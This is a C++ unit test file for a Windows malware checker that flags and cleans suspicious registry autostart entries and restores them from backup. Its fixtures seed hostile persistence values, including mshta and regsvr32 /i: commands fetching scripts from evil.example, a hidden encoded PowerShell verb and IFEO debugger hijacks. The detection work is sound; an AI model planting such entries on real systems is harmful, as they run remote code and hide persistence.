// Single autostart values beyond the eight checks: what a clean Windows holds
// there is passed over, anything else asked about; CLEAN deletes, empties or
// resets the value as Windows has it, and the restore puts it back.
#include <gtest/gtest.h>

#include "frame/FormMain.h"
#include "syscheck/Detection.h"
#include "syscheck/ModuleBackup.h"
#include "syscheck/checks/ModuleValuePlaces.h"
#include "tests/unit/CheckSupport.h"
#include "tests/unit/TestSupport.h"

namespace {

using checksupport::ReportLines;
using checksupport::StandInPrompt;
using checksupport::Stored;
using checksupport::WideBytes;

const wchar_t kSessionManager[] = L"SYSTEM\\CurrentControlSet\\Control\\Session Manager";
const wchar_t kIfeo[] = L"SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options";
const wchar_t kExit[] = L"SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\SilentProcessExit";
const wchar_t kCmd[] = L"Software\\Microsoft\\Command Processor";
const wchar_t kWinlogon[] = L"Software\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon";
const wchar_t kRdpwd[] = L"SYSTEM\\CurrentControlSet\\Control\\Terminal Server\\Wds\\rdpwd";
const wchar_t kNotify[] = L"SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\Notify";
const wchar_t kRunOnceEx[] = L"Software\\Microsoft\\Windows\\CurrentVersion\\RunOnceEx\\0001";
const wchar_t kActiveSetup[] = L"SOFTWARE\\Microsoft\\Active Setup\\Installed Components";
const wchar_t kRecycleBin[] = L"CLSID\\{645FF040-5081-101B-9F08-00AA002F954E}";
const wchar_t kThisPc[] = L"CLSID\\{20D04FE0-3AEA-1069-A2D8-08002B30309D}";
const wchar_t kRunning[] = L"（服务仍在运行，重新启动计算机后清除生效）";

// A verb of a class: the key CLEAN removes, and the key of its command line.
std::wstring VerbKey(const std::wstring& type, const std::wstring& verb) {
  return L"Software\\Classes\\" + type + L"\\shell\\" + verb;
}
std::wstring Verb(const std::wstring& type, const std::wstring& verb) { return VerbKey(type, verb) + L"\\command"; }
std::wstring Service(const std::wstring& name) { return L"SYSTEM\\CurrentControlSet\\Services\\" + name; }

std::string MultiBytes(const std::wstring& text) { return WideBytes(text) + std::string(2, '\0'); }

struct Seeded {
  HKEY root;
  std::wstring key, name;
  Stored value;
};

bool KeyExists(HKEY root, const std::wstring& path) {
  HKEY key;
  if (RegOpenKeyExW(root, path.c_str(), 0, KEY_READ, &key) != ERROR_SUCCESS) return false;
  RegCloseKey(key);
  return true;
}

// How Windows starts a service: 0 boot, 1 system, 2 automatic, 3 on demand, 4 never.
Seeded Start(const std::wstring& service, DWORD start) {
  return {HKEY_LOCAL_MACHINE,
          Service(service),
          L"Start",
          {REG_DWORD, std::string(reinterpret_cast<const char*>(&start), sizeof start)}};
}

class ValuePlaces : public checksupport::CheckTest {
 protected:
  static void RunAll() {
    for (const wchar_t* tag :
         {L"RROX", L"RUW", L"RCP", L"RBE", L"RACD", L"RIFEO", L"RTS", L"RWN", L"RAS", L"RSH", L"RSV"})
      ModuleValuePlaces::CheckTag(tag);
  }
};

// What a clean Windows holds in these places is no finding; each of the others is.
TEST_F(ValuePlaces, CleanWindowsEntriesPassAndEveryOtherIsAsked) {
  const Seeded clean[] = {
      {HKEY_LOCAL_MACHINE, kSessionManager, L"BootExecute", {REG_MULTI_SZ, MultiBytes(L"autocheck autochk *")}},
      {HKEY_LOCAL_MACHINE, kRdpwd, L"StartupPrograms", {REG_SZ, WideBytes(L"rdpclip")}},
      {HKEY_LOCAL_MACHINE, std::wstring(kIfeo) + L"\\zvnote.exe", L"GlobalFlag", {REG_SZ, WideBytes(L"0x200")}},
      {HKEY_CURRENT_USER, kCmd, L"AutoRun", {REG_SZ, WideBytes(L"")}},
      {HKEY_LOCAL_MACHINE,
       std::wstring(kActiveSetup) + L"\\{zv-mail}",
       L"StubPath",
       {REG_EXPAND_SZ, WideBytes(L"%SystemRoot%\\system32\\notepad.exe /FirstLogon")}},
      // An editor's verb for every file.
      {HKEY_LOCAL_MACHINE,
       Verb(L"*", L"zvedit"),
       L"",
       {REG_SZ, WideBytes(L"%SystemRoot%\\system32\\notepad.exe \"%1\"")}},
      // Services Windows does not start by itself.
      Start(L"zvoff", 4),
      {HKEY_LOCAL_MACHINE, Service(L"zvoff"), L"ImagePath", {REG_SZ, WideBytes(L"C:\\Users\\Public\\off.exe")}},
      Start(L"zvdemand", 3),
      {HKEY_LOCAL_MACHINE, Service(L"zvdemand"), L"ImagePath", {REG_SZ, WideBytes(L"C:\\Users\\Public\\demand.exe")}},
  };
  for (const Seeded& s : clean) checksupport::SetValue(s.root, s.key, s.name, s.value);
  {
    StandInPrompt prompt;
    RunAll();
  }
  EXPECT_EQ(std::vector<std::wstring>{}, ReportLines());

  const Seeded found[] = {
      {HKEY_LOCAL_MACHINE, kRunOnceEx, L"zvlib", {REG_SZ, WideBytes(L"||C:\\Users\\Public\\x.dll|DllRegisterServer")}},
      {HKEY_LOCAL_MACHINE, kRunOnceEx, L"zvcmd", {REG_SZ, WideBytes(L"mshta http://evil.example/a.hta")}},
      {HKEY_CURRENT_USER, kWinlogon, L"Shell", {REG_SZ, WideBytes(L"explorer.exe")}},
      {HKEY_LOCAL_MACHINE, kCmd, L"AutoRun", {REG_SZ, WideBytes(L"C:\\windows\\system32\\notepad.exe")}},
      {HKEY_LOCAL_MACHINE,
       kSessionManager,
       L"BootExecute",
       {REG_MULTI_SZ, WideBytes(L"autocheck autochk *") + MultiBytes(L"zvboot")}},
      {HKEY_LOCAL_MACHINE,
       std::wstring(kSessionManager) + L"\\AppCertDlls",
       L"zv",
       {REG_EXPAND_SZ, WideBytes(L"%APPDATA%\\cert.dll")}},
      {HKEY_LOCAL_MACHINE,
       std::wstring(kIfeo) + L"\\zvtarget.exe",
       L"Debugger",
       {REG_SZ, WideBytes(L"C:\\windows\\system32\\notepad.exe")}},
      {HKEY_LOCAL_MACHINE,
       std::wstring(kExit) + L"\\zvtarget.exe",
       L"MonitorProcess",
       {REG_SZ, WideBytes(L"C:\\Users\\Public\\mon.exe")}},
      {HKEY_LOCAL_MACHINE, kRdpwd, L"StartupPrograms", {REG_SZ, WideBytes(L"rdpclip,zvstart")}},
      {HKEY_LOCAL_MACHINE,
       std::wstring(kNotify) + L"\\zvnotify",
       L"DllName",
       {REG_SZ, WideBytes(L"C:\\windows\\system32\\shell32.dll")}},
      {HKEY_LOCAL_MACHINE,
       std::wstring(kActiveSetup) + L"\\{zv-evil}",
       L"StubPath",
       {REG_SZ, WideBytes(L"regsvr32 /s /i:https://evil.example/a.sct scrobj.dll")}},
      {HKEY_LOCAL_MACHINE,
       std::wstring(kRunOnceEx) + L"\\Depend",
       L"1",
       {REG_SZ, WideBytes(L"C:\\Users\\Public\\dep.dll")}},
      {HKEY_CURRENT_USER,
       Verb(L"Directory\\Background", L"zvverb"),
       L"",
       {REG_SZ, WideBytes(L"powershell -w hidden -enc AAAA")}},
      {HKEY_LOCAL_MACHINE,
       Verb(kRecycleBin, L"zvopen"),
       L"",
       {REG_SZ, WideBytes(L"C:\\windows\\system32\\notepad.exe")}},
      Start(L"zvauto", 2),
      {HKEY_LOCAL_MACHINE,
       Service(L"zvauto"),
       L"ImagePath",
       {REG_EXPAND_SZ, WideBytes(L"\\??\\C:\\Users\\Public\\zvsvc.exe")}},
      Start(L"zvdll", 2),
      {HKEY_LOCAL_MACHINE,
       Service(L"zvdll") + L"\\Parameters",
       L"ServiceDll",
       {REG_EXPAND_SZ, WideBytes(L"%APPDATA%\\svc.dll")}},
      // Started on demand, and by Windows itself when its trigger fires.
      Start(L"zvtrig", 3),
      {HKEY_LOCAL_MACHINE, Service(L"zvtrig") + L"\\TriggerInfo\\0", L"Type", {REG_DWORD, std::string(4, '\1')}},
      {HKEY_LOCAL_MACHINE,
       Service(L"zvtrig"),
       L"ServiceDll",
       {REG_EXPAND_SZ, WideBytes(L"C:\\windows\\system32\\zvgone.dll")}},
  };
  for (const Seeded& s : found) checksupport::SetValue(s.root, s.key, s.name, s.value);
  {
    StandInPrompt prompt;
    RunAll();
  }
  const std::wstring m = L"：发现可疑程序，可能是木马! -> ";
  EXPECT_EQ((std::vector<std::wstring>{
                L"(RROX)" + m + L"mshta http://evil.example/a.hta 跳过,未清除!",
                L"(RROX)" + m + L"||C:\\Users\\Public\\x.dll|DllRegisterServer 跳过,未清除!",
                L"(RROX)" + m + L"C:\\Users\\Public\\dep.dll 跳过,未清除!",
                L"(RUW)" + m + L"explorer.exe 跳过,未清除!",
                L"(RCP)" + m + L"C:\\windows\\system32\\notepad.exe 跳过,未清除!",
                L"(RBE)" + m + L"autocheck autochk * | zvboot 跳过,未清除!",
                L"(RACD)" + m + L"%APPDATA%\\cert.dll 跳过,未清除!",
                L"(RIFEO)" + m + L"C:\\windows\\system32\\notepad.exe 跳过,未清除!",
                L"(RIFEO)" + m + L"C:\\Users\\Public\\mon.exe 跳过,未清除!",
                L"(RTS)" + m + L"rdpclip,zvstart 跳过,未清除!",
                L"(RWN)" + m + L"C:\\windows\\system32\\shell32.dll 跳过,未清除!",
                L"(RAS)" + m + L"regsvr32 /s /i:https://evil.example/a.sct scrobj.dll 跳过,未清除!",
                L"(RSH)" + m + L"powershell -w hidden -enc AAAA 跳过,未清除!",
                L"(RSH)" + m + L"C:\\windows\\system32\\notepad.exe 跳过,未清除!",
                L"(RSV)" + m + L"\\??\\C:\\Users\\Public\\zvsvc.exe 跳过,未清除!",
                L"(RSV)" + m + L"%APPDATA%\\svc.dll 跳过,未清除!",
                L"(RSV)" + m + L"C:\\windows\\system32\\zvgone.dll 跳过,未清除!",
            }),
            ReportLines());
  for (const Seeded& s : found) checksupport::DeleteValue(s.root, s.key, s.name);
  for (const Seeded& s : clean) checksupport::DeleteValue(s.root, s.key, s.name);
}

// CLEAN deletes, empties (keeping the type) or resets to what Windows puts there,
// or removes a key with all below it; every change comes back with the restore.
TEST_F(ValuePlaces, CleanChangesAsWindowsHasItAndTheRestoreUndoesIt) {
  struct Case {
    const wchar_t* tag;
    Seeded seeded;
    bool present;  // after CLEAN
    Stored after;
    std::wstring gone;  // the key removed with the value; none when the value's key stays
  } cases[] = {
      {L"RUW", {HKEY_CURRENT_USER, kWinlogon, L"Userinit", {REG_SZ, WideBytes(L"C:\\x\\u.exe")}}, false, {}, {}},
      {L"RCP",
       {HKEY_CURRENT_USER, kCmd, L"AutoRun", {REG_EXPAND_SZ, WideBytes(L"%TEMP%\\a.cmd")}},
       true,
       {REG_EXPAND_SZ, WideBytes(L"")},
       {}},
      {L"RBE",
       {HKEY_LOCAL_MACHINE, kSessionManager, L"BootExecute", {REG_MULTI_SZ, MultiBytes(L"zvnative")}},
       true,
       {REG_MULTI_SZ, MultiBytes(L"autocheck autochk *")},
       {}},
      {L"RIFEO",
       {HKEY_LOCAL_MACHINE, std::wstring(kIfeo) + L"\\zvcalc.exe", L"Debugger", {REG_SZ, WideBytes(L"cmd.exe")}},
       false,
       {},
       {}},
      {L"RWN",
       {HKEY_LOCAL_MACHINE, std::wstring(kNotify) + L"\\zvpkg", L"DllName", {REG_SZ, WideBytes(L"zvpkg.dll")}},
       false,
       {},
       std::wstring(kNotify) + L"\\zvpkg"},
      {L"RAS",
       {HKEY_LOCAL_MACHINE,
        std::wstring(kActiveSetup) + L"\\{zv-stub}",
        L"StubPath",
        {REG_SZ, WideBytes(L"%APPDATA%\\stub.exe")}},
       false,
       {},
       {}},
      {L"RROX",
       {HKEY_CURRENT_USER,
        std::wstring(kRunOnceEx) + L"\\Depend",
        L"1",
        {REG_SZ, WideBytes(L"C:\\Users\\Public\\d.dll")}},
       false,
       {},
       {}},
      // A verb goes whole, so the menu item goes with its command.
      {L"RSH",
       {HKEY_CURRENT_USER,
        Verb(L"Directory", L"zvclean"),
        L"",
        {REG_SZ, WideBytes(L"mshta http://evil.example/a.hta")}},
       false,
       {},
       VerbKey(L"Directory", L"zvclean")},
      {L"RSH",
       {HKEY_LOCAL_MACHINE,
        Verb(kThisPc, L"zvmanage"),
        L"",
        {REG_EXPAND_SZ, WideBytes(L"%SystemRoot%\\system32\\notepad.exe")}},
       false,
       {},
       VerbKey(kThisPc, L"zvmanage")},
      {L"RSV",
       {HKEY_LOCAL_MACHINE, Service(L"zvclean"), L"ImagePath", {REG_EXPAND_SZ, WideBytes(L"%TEMP%\\svc.exe")}},
       false,
       {},
       {}},
  };
  const Seeded start = Start(L"zvclean", 2);
  checksupport::SetValue(start.root, start.key, start.name, start.value);
  for (const Case& c : cases) {
    SCOPED_TRACE(testing::PrintToString(std::wstring(c.tag)));
    checksupport::ClearReport();
    for (const ModuleBackup::Backup& backup : ModuleBackup::List()) DeleteFileW(backup.file.c_str());
    const Seeded& s = c.seeded;
    checksupport::SetValue(s.root, s.key, s.name, s.value);
    {
      StandInPrompt prompt({L"CLEAN"});
      ModuleValuePlaces::CheckTag(c.tag);
    }
    ASSERT_EQ(1u, ReportLines().size());
    EXPECT_NE(std::wstring::npos, ReportLines()[0].find(L" 已清除!"));
    Stored now;
    ASSERT_EQ(c.present, checksupport::GetValue(s.root, s.key, s.name, &now));
    EXPECT_EQ(c.gone.empty(), KeyExists(s.root, s.key));
    if (!c.gone.empty()) {
      EXPECT_FALSE(KeyExists(s.root, c.gone));
    }
    if (c.present) {
      EXPECT_EQ(c.after.type, now.type);
      EXPECT_EQ(c.after.data, now.data);
    }
    std::vector<ModuleBackup::Backup> backups = ModuleBackup::List();
    ASSERT_EQ(1u, backups.size());
    ASSERT_FALSE(backups[0].damaged);
    unsigned long error = 0;
    ASSERT_TRUE(ModuleBackup::Restore(backups[0], &error)) << error;
    ASSERT_TRUE(checksupport::GetValue(s.root, s.key, s.name, &now));
    EXPECT_EQ(s.value.type, now.type);
    EXPECT_EQ(s.value.data, now.data);
    checksupport::DeleteValue(s.root, s.key, s.name);
  }
}

// What a clean Windows 10 or 11 carries in these places, with the files it names
// (stand-ins here), raises nothing.
TEST_F(ValuePlaces, NoFindingOnWhatACleanWindowsCarries) {
  const std::wstring system = L"C:\\windows\\system32";
  const std::wstring programs = L"C:\\Program Files";
  const std::wstring defender = L"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.23110.3-0";
  for (const std::wstring& folder : {programs + L"\\Windows Mail", std::wstring(L"C:\\ProgramData\\Microsoft"),
                                     std::wstring(L"C:\\ProgramData\\Microsoft\\Windows Defender"),
                                     std::wstring(L"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform"), defender})
    CreateDirectoryW(folder.c_str(), nullptr);
  for (const std::wstring& file :
       {system + L"\\unregmp2.exe", system + L"\\ie4uinit.exe", system + L"\\iesetup.dll", system + L"\\themeui.dll",
        system + L"\\mscories.dll", programs + L"\\Windows Mail\\WinMail.exe", system + L"\\CompMgmtLauncher.exe",
        system + L"\\lsass.exe", system + L"\\wkssvc.dll", system + L"\\dhcpcore.dll", system + L"\\rpcss.dll",
        system + L"\\drivers\\tcpip.sys", system + L"\\drivers\\disk.sys", system + L"\\drivers\\Null.sys",
        defender + L"\\MsMpEng.exe"})
    if (GetFileAttributesW(file.c_str()) == INVALID_FILE_ATTRIBUTES) testsupport::WriteFileBytes(file, "MZ");
  auto verb = [](const std::wstring& type, const std::wstring& name, const std::wstring& command) {
    return Seeded{HKEY_LOCAL_MACHINE, Verb(type, name), L"", {REG_EXPAND_SZ, WideBytes(command)}};
  };
  auto service = [](const std::wstring& key, const std::wstring& name, const std::wstring& program) {
    return Seeded{HKEY_LOCAL_MACHINE, Service(key), name, {REG_EXPAND_SZ, WideBytes(program)}};
  };
  auto stub = [](const std::wstring& component, const std::wstring& command) {
    return Seeded{HKEY_LOCAL_MACHINE,
                  std::wstring(kActiveSetup) + L"\\" + component,
                  L"StubPath",
                  {REG_EXPAND_SZ, WideBytes(command)}};
  };
  const Seeded windows[] = {
      {HKEY_LOCAL_MACHINE, kSessionManager, L"BootExecute", {REG_MULTI_SZ, MultiBytes(L"autocheck autochk *")}},
      {HKEY_LOCAL_MACHINE, kRdpwd, L"StartupPrograms", {REG_SZ, WideBytes(L"rdpclip")}},
      {HKEY_LOCAL_MACHINE,
       L"SYSTEM\\CurrentControlSet\\Control\\Terminal Server\\WinStations\\RDP-Tcp",
       L"InitialProgram",
       {REG_SZ, WideBytes(L"")}},
      {HKEY_LOCAL_MACHINE,
       std::wstring(kIfeo) + L"\\zvmitigated.exe",
       L"MitigationOptions",
       {REG_BINARY, std::string(8, '\0')}},
      stub(L"{6BF52A52-394A-11d3-B153-00C04F79FAA6}", L"%SystemRoot%\\system32\\unregmp2.exe /FirstLogon"),
      stub(L"{89820200-ECBD-11cf-8B85-00AA005B4383}", L"%systemroot%\\system32\\ie4uinit.exe -UserConfig"),
      stub(L">{26923b43-4d38-484f-9b9e-de460746276c}",
           L"\"C:\\Windows\\System32\\rundll32.exe\" \"C:\\Windows\\System32\\iesetup.dll\",IEHardenUser"),
      stub(L"{44BBA840-CC51-11CF-AAFA-00AA00B6015C}",
           L"\"%ProgramFiles%\\Windows Mail\\WinMail.exe\" OCInstallUserConfigOE"),
      stub(L"{2C7339CF-2B09-4501-B3F3-F3508C9228ED}",
           L"%SystemRoot%\\system32\\regsvr32.exe /s /n /i:/UserInstall %SystemRoot%\\system32\\themeui.dll"),
      stub(L"{89B4C1CD-B018-4511-B0A1-5476DBF70820}",
           L"C:\\Windows\\System32\\rundll32.exe C:\\Windows\\System32\\mscories.dll,Install"),
      // The verbs Windows puts on folders, their background and drives; a verb run
      // by the shell's own handler has no command line.
      verb(L"Directory", L"cmd", L"cmd.exe /s /k pushd \"%V\""),
      verb(L"Directory", L"Powershell", L"powershell.exe -noexit -command Set-Location -literalPath '%V'"),
      verb(L"Directory", L"find", L"%SystemRoot%\\Explorer.exe"),
      verb(L"Directory\\Background", L"cmd", L"cmd.exe /s /k pushd \"%V\""),
      verb(L"Directory\\Background", L"Powershell", L"powershell.exe -noexit -command Set-Location -literalPath '%V'"),
      verb(L"Drive", L"cmd", L"cmd.exe /s /k pushd \"%V\""),
      verb(L"Drive", L"Powershell", L"powershell.exe -noexit -command Set-Location -literalPath '%V'"),
      verb(L"Drive", L"find", L"%SystemRoot%\\Explorer.exe"),
      {HKEY_LOCAL_MACHINE,
       Verb(L"*", L"pintohomefile"),
       L"DelegateExecute",
       {REG_SZ, WideBytes(L"{b455f46e-e4af-4035-b0a4-cf18d2f6f28e}")}},
      verb(kThisPc, L"Manage", L"%SystemRoot%\\system32\\CompMgmtLauncher.exe"),
      {HKEY_LOCAL_MACHINE,
       Verb(kRecycleBin, L"empty"),
       L"DelegateExecute",
       {REG_SZ, WideBytes(L"{48527bb3-e8de-450b-8910-8c4099cb8624}")}},
      // Services in each form of their programs: the shared host with its group,
      // a program of its own, drivers under "\\SystemRoot\\" and relative to Windows.
      Start(L"LanmanWorkstation", 2),
      service(L"LanmanWorkstation", L"ImagePath", L"%SystemRoot%\\System32\\svchost.exe -k NetworkService -p"),
      service(L"LanmanWorkstation\\Parameters", L"ServiceDll", L"%SystemRoot%\\System32\\wkssvc.dll"),
      Start(L"Dhcp", 2),
      service(L"Dhcp", L"ImagePath", L"%SystemRoot%\\system32\\svchost.exe -k LocalServiceNetworkRestricted -p"),
      service(L"Dhcp\\Parameters", L"ServiceDll", L"%SystemRoot%\\system32\\dhcpcore.dll"),
      Start(L"DcomLaunch", 2),
      service(L"DcomLaunch", L"ImagePath", L"%SystemRoot%\\system32\\svchost.exe -k DcomLaunch -p"),
      service(L"DcomLaunch\\Parameters", L"ServiceDll", L"%SystemRoot%\\system32\\rpcss.dll"),
      Start(L"SamSs", 2),
      service(L"SamSs", L"ImagePath", L"C:\\Windows\\system32\\lsass.exe"),
      Start(L"WinDefend", 2),
      service(L"WinDefend", L"ImagePath", L"\"" + defender + L"\\MsMpEng.exe\""),
      Start(L"Tcpip", 0),
      service(L"Tcpip", L"ImagePath", L"System32\\drivers\\tcpip.sys"),
      Start(L"disk", 0),
      service(L"disk", L"ImagePath", L"System32\\drivers\\disk.sys"),
      Start(L"Null", 1),
      service(L"Null", L"ImagePath", L"\\SystemRoot\\System32\\Drivers\\Null.SYS"),
  };
  for (const Seeded& s : windows) checksupport::SetValue(s.root, s.key, s.name, s.value);
  {
    StandInPrompt prompt;
    RunAll();
  }
  EXPECT_EQ(std::vector<std::wstring>{}, ReportLines());
  for (const Seeded& s : windows) checksupport::DeleteValue(s.root, s.key, s.name);
}

// A backup names only what a CLEAN of the tag changes: "<each>" one key name, the
// file class "*" itself, the verb key of a shell verb and never its command key.
TEST_F(ValuePlaces, RestoreTakesOnlyThePlacesTheCleanChanges) {
  using ModuleBackup::KeyPlace;
  using ModuleBackup::ValuePlace;
  const Reg::Root hklm = Reg::LocalMachine, hkcu = Reg::CurrentUser;
  const std::wstring ifeo = kIfeo;
  struct Case {
    const wchar_t* tag;
    ModuleBackup::Place place;
    bool taken;
  } cases[] = {
      {L"RSH", KeyPlace(hkcu, VerbKey(L"Directory", L"zv")), true},
      {L"RSH", KeyPlace(hklm, VerbKey(L"*", L"zv")), true},
      {L"RSH", KeyPlace(hklm, VerbKey(kRecycleBin, L"zv")), true},
      {L"RSH", KeyPlace(hklm, VerbKey(L"x", L"zv")), false},
      {L"RSH", KeyPlace(hklm, VerbKey(L"CLSID\\{00000000-0000-0000-0000-000000000000}", L"zv")), false},
      {L"RSH", KeyPlace(hkcu, Verb(L"Directory", L"zv")), false},
      {L"RSH", KeyPlace(hkcu, L"Software\\Classes\\Directory\\shell"), false},
      {L"RSH", KeyPlace(hkcu, VerbKey(L"Directory", L"zv\\x")), false},
      {L"RSH", ValuePlace(hkcu, Verb(L"Directory", L"zv"), L""), false},
      {L"RSV", ValuePlace(hklm, Service(L"zv"), L"ImagePath"), true},
      {L"RSV", ValuePlace(hklm, Service(L"zv"), L"ServiceDll"), true},
      {L"RSV", ValuePlace(hklm, Service(L"zv\\Parameters"), L"ServiceDll"), true},
      {L"RSV", ValuePlace(hklm, Service(L"zv"), L"Start"), false},
      {L"RSV", ValuePlace(hklm, Service(L"zv\\Parameters\\x"), L"ServiceDll"), false},
      {L"RSV", ValuePlace(hklm, Service(L"zv\\x"), L"ImagePath"), false},
      {L"RSV", KeyPlace(hklm, Service(L"zv")), false},
      {L"RSV", ValuePlace(hkcu, Service(L"zv"), L"ImagePath"), false},
      {L"RROX", ValuePlace(hkcu, std::wstring(kRunOnceEx) + L"\\Depend", L"1"), true},
      {L"RROX", ValuePlace(hklm, std::wstring(kRunOnceEx) + L"\\Depend\\x", L"1"), false},
      {L"RWN", KeyPlace(hklm, std::wstring(kNotify) + L"\\zv"), true},
      {L"RWN", KeyPlace(hklm, std::wstring(kNotify) + L"\\zv\\x"), false},
      {L"RIFEO", ValuePlace(hklm, ifeo + L"\\a.exe", L"Debugger"), true},
      {L"RIFEO", ValuePlace(hklm, ifeo + L"\\a.exe\\b", L"Debugger"), false},
      {L"RIFEO", ValuePlace(hklm, ifeo + L"\\", L"Debugger"), false},
  };
  for (const Case& c : cases)
    EXPECT_EQ(c.taken, ModuleValuePlaces::IsPlaceOf(c.tag, c.place))
        << testing::PrintToString(std::wstring(c.tag) + L" " + c.place.path + L" : " + c.place.name);
}

// The service manager keeps a running service's program running: CLEAN removes the
// entry, and the line says that a restart finishes it.
TEST_F(ValuePlaces, CleaningARunningServiceSaysARestartFinishesIt) {
  const std::wstring image = L"C:\\Users\\Public\\zvservice.exe";
  ASSERT_TRUE(CopyFileW((testsupport::TestFolder() + L"\\servicesleeper.exe").c_str(), image.c_str(), FALSE));
  SC_HANDLE manager = OpenSCManagerW(nullptr, nullptr, SC_MANAGER_ALL_ACCESS);
  ASSERT_NE(nullptr, manager);
  SC_HANDLE service = CreateServiceW(manager, L"zvrunning", L"zvrunning", SERVICE_ALL_ACCESS, SERVICE_WIN32_OWN_PROCESS,
                                     SERVICE_AUTO_START, SERVICE_ERROR_IGNORE, image.c_str(), nullptr, nullptr, nullptr,
                                     nullptr, nullptr);
  ASSERT_NE(nullptr, service);
  ASSERT_TRUE(StartServiceW(service, 0, nullptr));
  SERVICE_STATUS status = {};
  for (int i = 0; i < 600 && QueryServiceStatus(service, &status) && status.dwCurrentState == SERVICE_START_PENDING;
       i++)
    Sleep(50);
  ASSERT_EQ(DWORD(SERVICE_RUNNING), status.dwCurrentState);
  const Seeded stopped[] = {
      Start(L"zvstopped", 2),
      {HKEY_LOCAL_MACHINE, Service(L"zvstopped"), L"ImagePath", {REG_SZ, WideBytes(L"C:\\Users\\Public\\zvstop.exe")}},
  };
  for (const Seeded& s : stopped) checksupport::SetValue(s.root, s.key, s.name, s.value);
  {
    StandInPrompt prompt({L"CLEAN", L"CLEAN"});
    ModuleValuePlaces::CheckServices();
  }
  const std::wstring m = L"(RSV)：发现可疑程序，可能是木马! -> ";
  EXPECT_EQ(
      (std::vector<std::wstring>{m + image + kRunning + L" 已清除!", m + L"C:\\Users\\Public\\zvstop.exe 已清除!"}),
      ReportLines());
  Stored left;
  EXPECT_FALSE(checksupport::GetValue(HKEY_LOCAL_MACHINE, Service(L"zvrunning"), L"ImagePath", &left));
  EXPECT_TRUE(QueryServiceStatus(service, &status));
  EXPECT_EQ(DWORD(SERVICE_RUNNING), status.dwCurrentState) << "a running service is not stopped";
  ControlService(service, SERVICE_CONTROL_STOP, &status);
  DeleteService(service);
  CloseServiceHandle(service);
  CloseServiceHandle(manager);
}

}  // namespace
